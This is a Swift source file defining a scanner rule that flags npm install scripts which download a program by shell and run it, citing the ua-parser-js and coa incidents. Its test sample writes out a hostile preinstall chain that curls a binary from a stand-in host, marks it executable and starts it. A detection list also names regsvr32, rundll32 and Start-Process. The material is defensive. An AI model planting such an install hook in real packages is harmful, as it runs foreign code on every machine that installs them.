// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A shell or batch file that runs at install downloads a program and starts it.
package struct InstallShellDownload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-shell-download", kind: .content, title: "Install downloads a program by shell and starts it", severity: .critical,
        confidence: .medium, status: .stable, revision: 3, group: "install-behaviour",
        rationale:
            "ua-parser-js, coa and rc shipped a shell and a batch file that fetched a program and started it. Honest installers fetch their own release, in JavaScript, and check it.",
        knownFalseAlarms: ["An installer written in shell; from the project's own releases it weighs little."],
        references: ["https://github.com/faisalman/ua-parser-js/issues/536", "https://github.com/veged/coa/issues/99"],
        fires: [
            RuleSample(
                "shell file by way of JavaScript",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node pre.js & node pre.js"}}"#,
                    "pre.js": "const {exec} = require('child_process'); exec('/bin/bash pre.sh');",
                    "pre.sh": "curl http://files.test/d/tool -o tool\nchmod +x tool\n./tool -k --tls &\n",
                ]))
        ],
        staysSilent: [
            RuleSample(
                "builds from source",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"sh build.sh"}}"#,
                    "build.sh": "make -C deps all\nchmod +x deps/out\n",
                ]))
        ]
    )

    /// Hosts from which projects serve their own releases; where a program comes from one of them only, it weighs little.
    private static let releaseHosts = [
        "github.com", "objects.githubusercontent.com", "raw.githubusercontent.com", "api.github.com", "gitlab.com", "nodejs.org",
        "registry.npmjs.org", "storage.googleapis.com", "registry.npmmirror.com",
    ]

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        for file in facts.installFiles {
            guard let scan = file.scan, scan.signs.contains(.shellDownload), Self.isShell(file.path) else { continue }
            let starts = scan.signs.contains(.makesExecutable) || Self.startsProgram(file.file.bytes)
            let isOwn =
                !scan.hosts.isEmpty && !scan.hasMoreHosts && scan.hosts.allSatisfy { Self.releaseHosts.contains($0) }
                && !scan.signs.contains(.rawAddress)
            let strength = isOwn ? 0 : (starts ? 0.7 : 0.35) + (file.change == .same ? 0 : 0.3)
            let signs: [Sign] = [.shellDownload, .makesExecutable, .rawAddress]
            return [
                card.finding(
                    starts ? "Install downloads a program by shell and makes it run" : "Install downloads by shell",
                    strength: strength, evidence: signs.compactMap { file.evidence(of: $0) },
                    meaning: "A program that is not part of the package runs on every machine that installs it.")
            ]
        }
        return []
    }

    private static func isShell(_ path: String) -> Bool {
        [".sh", ".bash", ".bat", ".cmd", ".ps1"].contains { path.lowercased().hasSuffix($0) }
    }

    /// Batch files name the program they start, or use `start`.
    private static func startsProgram(_ bytes: ArraySlice<UInt8>) -> Bool {
        [".exe", "start ", "regsvr32", "rundll32", "Start-Process"].contains { bytes.firstRange(of: Array($0.utf8)) != nil }
    }
}
